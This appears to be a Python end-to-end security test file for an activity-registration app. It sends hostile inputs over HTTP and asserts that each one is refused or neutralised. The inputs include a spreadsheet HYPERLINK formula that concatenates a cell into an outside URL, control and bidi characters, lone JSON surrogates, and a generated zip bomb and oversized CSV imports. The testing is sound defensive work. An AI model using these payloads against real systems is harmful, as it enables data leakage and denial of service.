"""The hostile probes that found holes from outside, re-run against the built app over HTTP
(its public page, API and upload doors), as a stranger or a user's client would send them:
formulas and control characters in what the public types, lone surrogates in JSON, hostile
import files. Each answers a clear 4xx naming the field or file, never a 500, and what comes
out (exports opened as a spreadsheet opens them, calendar files) stays inert and whole."""

from __future__ import annotations

import csv
import io
import time
import uuid
import zipfile
from datetime import datetime, timedelta

import httpx
import openpyxl
import pytest
import vobject

from lo_network.domain.activities import TZ
from lo_network.ratelimit import public_limiter
from lo_network.services import activities
from lo_network.services.accounts import create_api_token

pytestmark = pytest.mark.e2e

FORMULA_NAME = '=HYPERLINK("http://x/?"&C2,"Details")'
FORMULA_REMARKS = "=1+1"


@pytest.fixture(scope="module")
def api(app):
    """HTTP clients of the running app: as an organiser (token), a coordinator, and the public."""
    def client(role: str | None) -> httpx.Client:
        headers = {"Authorization": f"Bearer {create_api_token(app.accounts[role].email)}"} if role else {}
        return httpx.Client(base_url=app.base_url + "/api/v1", headers=headers, timeout=60)

    clients = {role: client(role) for role in ("organiser", "coordinator", None)}
    yield clients
    for c in clients.values():
        c.close()


@pytest.fixture(scope="module")
def public_activity(admin):
    start = (datetime.now(TZ) + timedelta(days=30)).replace(hour=16, minute=0)
    return activities.create(admin, {
        "title": f"Probe café {uuid.uuid4().hex[:6]}", "kind": "cafe", "visibility": "public", "capacity": "50",
        "starts_at": start.strftime("%d-%m-%Y %H:%M"),
        "ends_at": (start + timedelta(hours=2)).strftime("%d-%m-%Y %H:%M")}, via="e2e")


def register_publicly(api, activity_id: str, **fields) -> httpx.Response:
    public_limiter.reset()  # the public routes are rate limited per address: these probes count alone
    body = {"email": f"probe-{uuid.uuid4().hex[:8]}@example.nl", "consent": True} | fields
    return api[None].post(f"/public/activities/{activity_id}/registrations", json=body)


def xlsx_cells(data: bytes) -> list:
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    return [cell for row in sheet.iter_rows() for cell in row]


def csv_cells(data: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";") for cell in row]


# ---------------------------------------------------------------- formulas
def test_a_public_registrant_named_as_a_formula_reaches_the_organiser_as_text(api, public_activity):
    answer = register_publicly(api, public_activity["id"], name=FORMULA_NAME, remarks=FORMULA_REMARKS)
    assert answer.status_code == 201, answer.text
    xlsx = api["organiser"].get(f"/activities/{public_activity['id']}/attendees.xlsx")
    assert xlsx.status_code == 200, xlsx.text
    hostile = [c for c in xlsx_cells(xlsx.content) if isinstance(c.value, str) and c.value.startswith(("=", "'="))]
    assert hostile and all(c.data_type == "s" for c in hostile), [(c.value, c.data_type) for c in hostile]
    text = api["organiser"].get(f"/activities/{public_activity['id']}/attendees.csv")
    cells = csv_cells(text.content)
    assert f"'{FORMULA_NAME}" in cells and f"'{FORMULA_REMARKS}" in cells
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@"))]


def test_an_organisation_named_as_a_formula_exports_as_text(api):
    name = f"=1+{uuid.uuid4().int % 1000}"
    made = api["coordinator"].post("/organisations", json={"name": name, "kind": "company"})
    assert made.status_code == 201, made.text
    xlsx = api["coordinator"].get("/organisations/export", params={"format": "xlsx", "q": name[1:]})
    assert xlsx.status_code == 200
    cells = [c for c in xlsx_cells(xlsx.content) if c.value == name]
    assert cells and all(c.data_type == "s" for c in cells)
    assert f"'{name}" in csv_cells(api["coordinator"].get("/organisations/export", params={"q": name[1:]}).content)


# ---------------------------------------------------------------- control characters
def test_control_characters_typed_in_are_cleaned_and_every_file_stays_whole(app, api, public_activity):
    answer = register_publicly(api, public_activity["id"], name="Anne\u0007 de\u0000 Vries\u202e",
                               remarks="regel een\u0007\nregel twee")
    assert answer.status_code == 201, answer.text
    assert answer.json()["name"] == "Anne de Vries"
    made = api["coordinator"].post("/organisations", json={"name": "Bel\u0007 Transport\u0000 BV", "kind": "company"})
    assert made.status_code == 201 and made.json()["name"] == "Bel Transport BV", made.text

    attendees = api["organiser"].get(f"/activities/{public_activity['id']}/attendees.xlsx")
    assert attendees.status_code == 200 and "Anne de Vries" in [c.value for c in xlsx_cells(attendees.content)]
    organisations = api["coordinator"].get("/organisations/export", params={"format": "xlsx", "q": "bel transport"})
    assert organisations.status_code == 200
    feed = httpx.get(app.base_url + "/api/v1/calendar/public.ics", timeout=30)
    assert feed.status_code == 200
    titles = [e.summary.value for e in vobject.readOne(feed.text).vevent_list]
    assert public_activity["title"] in titles


# ---------------------------------------------------------------- lone surrogates
@pytest.mark.parametrize("door", ["public registration", "new organisation"])
def test_a_lone_surrogate_in_json_answers_422_naming_the_field(api, public_activity, door):
    public_limiter.reset()
    if door == "public registration":
        client, path = api[None], f"/public/activities/{public_activity['id']}/registrations"
        body = '{"name": "Eva \\ud800", "email": "eva@example.nl", "consent": true}'
    else:
        client, path = api["coordinator"], "/organisations"
        body = '{"name": "Surrogaat \\ud800 BV", "kind": "company"}'
    answer = client.post(path, content=body.encode(), headers={"Content-Type": "application/json"})
    assert answer.status_code == 422, answer.text
    assert "name" in answer.json()["errors"], answer.json()


# ---------------------------------------------------------------- hostile import files
def zip_bomb() -> bytes:
    """An .xlsx-named zip of ~200 KB holding 80 MB of XML (the probe's shape)."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        z.writestr("xl/workbook.xml", "<workbook/>")
        z.writestr("xl/worksheets/sheet1.xml", "<sheetData>" + "<row/>" * (80 * 1024 * 1024 // 6) + "</sheetData>")
    return out.getvalue()


HOSTILE_FILES = {
    "bom.xlsx": zip_bomb,
    "breed.csv": lambda: (";".join(f"k{i}" for i in range(1_000_000)) + "\n").encode(),
    "programma.csv": lambda: bytes(range(256)) * 8192,
}


@pytest.mark.parametrize("name", list(HOSTILE_FILES))
def test_a_hostile_import_file_is_refused_naming_it_and_the_app_keeps_answering(app, api, name):
    data = HOSTILE_FILES[name]()
    started = time.monotonic()
    answer = api["coordinator"].post("/imports", params={"kind": "organisations"},
                                     files={"file": (name, data, "application/octet-stream")})
    took = time.monotonic() - started
    assert answer.status_code in (413, 422), answer.text
    assert name in answer.text or answer.status_code == 413, answer.text
    assert httpx.get(app.base_url + "/ping", timeout=10).status_code == 200
    print(f"{name}: {len(data):,} bytes refused with {answer.status_code} in {took:.2f} s")
